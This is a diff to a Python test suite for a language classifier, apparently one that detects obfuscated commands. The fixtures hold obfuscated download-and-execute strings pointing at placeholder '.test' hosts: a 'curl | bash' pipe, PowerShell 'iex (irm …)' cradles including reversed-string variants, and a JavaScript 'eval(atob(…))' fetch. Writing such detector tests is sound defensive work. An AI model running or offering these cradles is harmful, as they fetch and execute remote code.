@@ -310,6 +310,32 @@ def test_a_docstrings_quotes_are_no_quotes_inserted_into_a_shell_word() -> None:
     assert "posix" in languages("cu\"\"rl -s https://a.test/x | ba''sh")
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        "import os\nimport subprocess\n\ndef args(o):\n    return ['-' + 'O', eval(o)]\n",
+        "# tool\nfrom ast import literal_eval\n\nprint('a' + 'b'.replace('x', 'y'))\n",
+        "@dataclass\nclass Money:\n    value: str = '0' + '.00'\n",
+    ],
+)
+def test_python_source_is_read_neither_as_powershell_nor_as_javascript(text: str) -> None:
+    """Python joins strings with '+', indexes with ['…'] and has eval( as both do."""
+    found = languages(text.lower())
+    assert "powershell" not in found and "javascript" not in found
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "import-module bits; $u='https://a.'+'test/x'; iex (irm $u)",
+        "class Stage : Base {\n  [string] $u = 'https://a.' + 'test/x'\n}",
+        "import x from './x.js'\neval(atob('ZmV0Y2goJ2h0dHBzOi8veC50ZXN0Jyk='))",
+    ],
+)
+def test_what_only_looks_like_python_is_still_read(text: str) -> None:
+    assert languages(text.lower())
+
+
 REVERSING = [
     "$a='redaol/x/tset.a//:sptth'.ToCharArray(); [array]::Reverse($a); iex (irm (-join $a))",
     "iex ((\"txt.a/tset.a//:sptth\")[-1..-99] -join '')",
